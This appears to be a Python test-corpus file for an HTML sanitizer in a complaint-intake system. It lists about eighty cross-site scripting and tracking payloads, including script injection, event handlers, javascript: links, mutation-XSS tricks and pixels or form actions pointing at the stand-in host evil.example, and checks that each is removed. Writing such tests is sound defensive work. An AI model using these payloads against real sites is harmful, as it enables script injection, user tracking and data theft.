# SPDX-License-Identifier: EUPL-1.2
"""HTML letters that would run something, or tell somebody that they were opened."""

from collections.abc import Iterator

from anke.intake.tests.reading.builders import html
from anke.intake.tests.reading.corpus import Case

# Each stands beside a word that must survive. "evil" marks what must be gone.
LIVE = {
    "script": "<script>evil()</script>",
    "script-src": '<script src="//evil.example/x.js"></script>',
    "script-upper": "<SCRIPT>evil()</SCRIPT>",
    "script-split": "<scr<script>ipt>evil()</scr</script>ipt>",
    "script-unclosed": "<p>x</p><img src=x onerror=evil()",
    "script-nul": "<scr\0ipt>evil()</scr\0ipt>",
    "script-type": '<script type="text/vbscript">evil()</script>',
    "script-in-svg": "<svg><script>evil()</script></svg>",
    "script-in-math": "<math><mtext><script>evil()</script></mtext></math>",
    "script-in-noscript": '<noscript><p title="</noscript><img src=x onerror=evil()>">',
    "script-in-comment": "<!--><img src=x onerror=evil()>-->",
    "script-in-title": "<title><img src=x onerror=evil()></title>",
    "script-in-textarea": "<textarea><img src=x onerror=evil()></textarea>",
    "script-in-style": "<style><img src=x onerror=evil()></style>",
    "script-in-template": "<template><img src=x onerror=evil()></template>",
    "script-in-xmp": "<xmp><img src=x onerror=evil()></xmp>",
    "onclick": '<p onclick="evil()">',
    "onmouseover": '<b onmouseover="evil()">x</b>',
    "onerror": "<img src=x onerror=evil()>",
    "onload-body": '<body onload="evil()">',
    "onload-svg": '<svg onload="evil()">',
    "onload-slash": "<svg/onload=evil()>",
    "onfocus": "<input autofocus onfocus=evil()>",
    "ontoggle": "<details open ontoggle=evil()>x</details>",
    "onbegin": "<svg><animate onbegin=evil() attributeName=x dur=1s>",
    "onstart": "<marquee onstart=evil()>x</marquee>",
    "href-javascript": '<a href="javascript:evil()">x</a>',
    "href-entities": '<a href="&#106;avascript:evil()">x</a>',
    "href-tab": '<a href="java\tscript:evil()">x</a>',
    "href-vbscript": '<a href="vbscript:evil()">x</a>',
    "href-data": '<a href="data:text/html,<script>evil()</script>">x</a>',
    "href-remote": (
        '<a href="https://evil.example/" ping="https://evil.example/p">x</a>'
    ),
    "pixel": '<img src="https://evil.example/p.gif" width=1 height=1>',
    "pixel-srcset": '<img srcset="https://evil.example/p.gif 1x">',
    "pixel-relative": '<img src="//evil.example/p.gif">',
    "pixel-data": '<img src="data:image/svg+xml,<svg onload=evil()>">',
    "pixel-input": '<input type=image src="https://evil.example/p">',
    "pixel-lazy": '<img loading=lazy src="https://evil.example/p.gif">',
    "background": '<table background="https://evil.example/p"><tr><td>x</table>',
    "background-body": '<body background="https://evil.example/p">',
    "style-url": '<p style="background:url(https://evil.example/p)">x</p>',
    "style-expression": '<p style="width:expression(evil())">x</p>',
    "style-binding": '<p style="-moz-binding:url(//evil.example/x)">x</p>',
    "style-tag": "<style>p{background:url(https://evil.example/p)}</style>",
    "style-import": "<style>@import 'https://evil.example/x.css';</style>",
    "style-font": "<style>@font-face{src:url(//evil.example/f)}</style>",
    "link-css": '<link rel=stylesheet href="https://evil.example/x.css">',
    "link-prefetch": '<link rel=dns-prefetch href="//evil.example">',
    "link-import": '<link rel=import href="//evil.example">',
    "meta-refresh": '<meta http-equiv=refresh content="0;url=https://evil.example">',
    "meta-cookie": '<meta http-equiv=set-cookie content="evil=1">',
    "base": '<base href="https://evil.example/">',
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>evil()</script>"></iframe>',
    "frame": '<frameset><frame src="https://evil.example/"></frameset>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "applet": '<applet code="evil.class"></applet>',
    "video": (
        '<video poster="https://evil.example/p"><source src="//evil.example"></video>'
    ),
    "audio": '<audio src="https://evil.example/a" autoplay></audio>',
    "form": (
        '<form action="https://evil.example/"><input name=cpr><button>x</button></form>'
    ),
    "formaction": '<button formaction="https://evil.example/">x</button>',
    "svg-use": '<svg><use href="https://evil.example/x.svg#a"/></svg>',
    "svg-image": '<svg><image href="https://evil.example/p"/></svg>',
    "svg-foreign": (
        "<svg><foreignObject><img src=x onerror=evil()></foreignObject></svg>"
    ),
    "math-href": '<math href="javascript:evil()">x</math>',
    "xml-island": '<xml id=x src="https://evil.example/x.xml"></xml>',
    "conditional": "<!--[if mso]><img src=https://evil.example/p><![endif]-->",
    "cdata": "<![CDATA[<script>evil()</script>]]>",
    "processing": "<?xml-stylesheet href='https://evil.example/x.xsl'?>",
    "doctype-entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "https://evil.example">]>',
    "mutation-listing": "<listing>&lt;img src=x onerror=evil()&gt;</listing>",
    "mutation-math": "<math><mi><style><img src=x onerror=evil()></style></mi></math>",
    "mutation-form": (
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=evil()>"
    ),
    "attribute-breakout": '<p lang="x"><script>evil()</script>">x</p>',
    "unicode-script": "<ſcript>evil()</ſcript>",
    "dir-attribute": '<p dir="rtl" id="evil" class="evil" name="evil">x</p>',
    "is-attribute": '<p is="evil-element" slot="evil">x</p>',
    "portal": '<portal src="https://evil.example/"></portal>',
    "dialog": '<dialog open onclose="evil()">x</dialog>',
}
# What shows as text is harmless: only what is left as markup is looked at.
TEXT_REMAINS = {
    "script-split",
    "script-unclosed",
    "script-nul",
    "script-in-noscript",
    "script-in-comment",
    "attribute-breakout",
    "unicode-script",
    "cdata",
    "mutation-listing",
    "mutation-form",
}


def cases() -> Iterator[Case]:
    """Give the cases of this kind."""
    for name, page in LIVE.items():
        never = "" if name in TEXT_REMAINS else "evil"
        raw = html(f"<p>Jeg klager.</p>{page}")
        yield Case(f"html-{name}", raw, find="Jeg klager.", never=never)
    yield Case("html-and-words", html("<p>En</p><p>To<br>Tre</p>"), find="To\nTre")
